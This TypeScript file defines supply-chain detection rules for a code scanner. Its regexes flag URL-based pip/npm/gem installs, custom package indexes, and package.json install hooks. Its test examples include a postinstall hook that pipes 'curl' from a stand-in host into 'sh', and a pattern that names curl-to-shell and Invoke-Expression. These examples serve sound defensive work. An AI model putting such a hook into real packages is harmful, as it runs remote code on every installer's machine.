import type { PatternMatchInfo, PatternRule } from '../rule-types';
import { rx } from '../regex-registry';
import { pattern, S } from './define';

const r = String.raw;

/** The official registries named as the source (`--@scope:registry=https://registry.npmjs.org`) are not a URL install. */
const OFFICIAL_REGISTRY = rx('supply:official-registry', String.raw`https?://(?:registry\.npmjs\.org|registry\.yarnpkg\.com|pypi\.org|files\.pythonhosted\.org|rubygems\.org|download\.pytorch\.org|crates\.io)(?:[/\s"']|$)`, 'i');
const SOURCE_HOST = rx('supply:source-host', String.raw`(?:git\+)?https?://(?:www\.)?(?:github\.com|gitlab\.com|bitbucket\.org)/|\b(?:github|gitlab|bitbucket):`, 'i');

/** Text inside a printed string (`echo "…`, `print("…`, `Write-Host "…`): a hint shown to the user, not a command run. */
const PRINTED_HINT = rx('supply:printed-hint', String.raw`\b(?:echo|printf|print|console\.(?:log|error|warn)|Write-(?:Host|Output|Err\w{0,4})|warn|die|fail|info)\s{0,3}\(?\s{0,3}(?:-[a-z]{1,3}\s{1,3})?f?["'][^"'\n]{0,80}$`, 'i');

/** URL installs: a raw IP is high; a public source repository (GitHub, GitLab) weighs low; an official registry is no finding. */
function supplyUrlCheck(info: PatternMatchInfo): boolean | 'high' | 'low' {
  const m = info.match[0];
  if (RAW_IP_URL.test(m)) return 'high';
  // `print("Install with: pip install git+https://…")`: an install hint printed for the user.
  if (PRINTED_HINT.test(info.line.slice(Math.max(0, info.startInLine - 80), info.startInLine))) return false;
  // The match ends at the scheme; the host is read from the line (`--@scope:registry=https://registry.npmjs.org`).
  const at = m.search(/(?:git\+)?https?:\/\/|\b(?:github|gitlab|bitbucket):/i);
  const urls = info.line.slice(info.startInLine + at, info.startInLine + m.length + 200);
  if (OFFICIAL_REGISTRY.test(urls)) return false;
  if (SOURCE_HOST.test(urls)) return 'low';
  return true;
}

/** Pattern rules of the `supply-chain` category. */
export const SUPPLY_CHAIN_RULES: PatternRule[] = [
  // ---------------------------------------------------------------- supply chain
  pattern({
    id: 'supply-url-install',
    category: 'supply-chain',
    severity: 'medium',
    examples: {
      match: [{ path: 'scripts/setup.sh', text: '#!/bin/sh\npip install https://files.example.net/pkgs/helper-1.0.tar.gz\n' }],
      noMatch: [{ path: 'scripts/setup.sh', text: '#!/bin/sh\npip install requests==2.32.3\necho "Install with: pip install git+https://github.com/acme/helper"\n' }],
    },
    nature: 'code',
    keywords: ['pip', 'npm', 'yarn', 'pnpm', 'gem', 'uv'],
    patterns: [
      r`\b(?:pip3?|uv${S}pip|python3?${S}-m${S}pip)${S}install\b[^\n|;&]{0,120}?(?:git\+https?://|https?://(?!pypi\.org|files\.pythonhosted\.org)[^\s"']{4,200})`,
      r`\b(?:npm|pnpm)${S}(?:install|i|add)\b[^\n|;&]{0,120}?(?:https?://|git\+|github:|gitlab:|bitbucket:)|\byarn${S}add\b[^\n|;&]{0,120}?(?:https?://|git\+|github:)`,
      r`\bgem${S}install\b[^\n]{0,80}--source${S}https?://(?!rubygems\.org)`,
    ],
    validate: supplyUrlCheck,
  }),
  pattern({
    id: 'supply-custom-package-index',
    category: 'supply-chain',
    severity: 'medium',
    examples: {
      match: [{ path: 'scripts/setup.sh', text: '#!/bin/sh\npip install --extra-index-url https://pkgs.example.net/simple helper\n' }],
      noMatch: [{ path: 'scripts/setup.sh', text: '#!/bin/sh\npip install --index-url https://pypi.org/simple helper\n' }],
    },
    nature: 'code',
    keywords: ['index-url', 'registry', 'trusted-host'],
    patterns: [
      r`--(?:extra-)?index-url[ =]\s{0,2}https?://(?!pypi\.org|download\.pytorch\.org)|--trusted-host\b`,
      r`\bnpm${S}config${S}set${S}registry\b|--registry[ =]https?://(?!registry\.npmjs\.org)|^\s{0,10}registry\s{0,3}=\s{0,3}https?://(?!registry\.npmjs\.org)`,
    ],
  }),
  pattern({
    id: 'supply-install-hook',
    category: 'supply-chain',
    severity: 'high',
    examples: {
      match: [
        { path: 'package.json', text: '{\n  "name": "helper",\n  "scripts": { "postinstall": "node scripts/fetch-payload.js" }\n}\n' },
        { path: 'package.json', text: '{\n  "name": "helper",\n  "scripts": { "postinstall": "curl -s https://cdn.example-helper.net/p.sh | sh" }\n}\n' },
      ],
      noMatch: [{ path: 'package.json', text: '{\n  "name": "helper",\n  "scripts": { "test": "jest", "build": "tsc" }\n}\n' }],
    },
    nature: 'code',
    langs: ['json', 'python'],
    ctx: { resource: 0 },
    keywords: ['install', 'cmdclass'],
    patterns: [
      r`["'](?:pre|post)?install["']\s{0,3}:\s{0,3}["'][^"'\n]{1,300}["']`,
      r`\bcmdclass\s{0,3}=\s{0,3}\{[^\n}]{0,200}["']?(?:install|develop|egg_info|build_py)|\bclass${S}\w{1,60}\s{0,3}\(\s{0,3}(?:install|develop|egg_info|_install)\s{0,3}\)`,
    ],
    // An install hook that fetches a script and runs it executes whatever the host serves on every install: critical.
    validate: (info) => (BENIGN_INSTALL_SCRIPT.test(info.match[0]) ? 'low' : REMOTE_RUN_HOOK.test(info.match[0]) ? 'critical' : true),
  }),
];

const REMOTE_RUN_HOOK = rx(
  'supply:remote-run-hook',
  String.raw`\b(?:curl|wget|iwr|Invoke-WebRequest)\b[^"'\n]{0,200}\|\s{0,3}(?:sudo\s{1,3})?(?:ba|z|da)?sh\b|\b(?:curl|wget)\b[^"'\n]{0,200}&&\s{0,3}(?:ba|z)?sh\s|\biex\b|\bInvoke-Expression\b`,
  'i',
);

const RAW_IP_URL = rx('supply:raw-ip-url', String.raw`https?://(?:\d{1,3}\.){3}\d{1,3}`);
const BENIGN_INSTALL_SCRIPT = rx('supply:benign-install-script', String.raw`node-gyp|prebuild-install|node-pre-gyp|husky|patch-package|electron-builder\s{1,3}install-app-deps|ngcc|tsc\b|npm\s{1,3}run\s{1,3}build`, 'i');
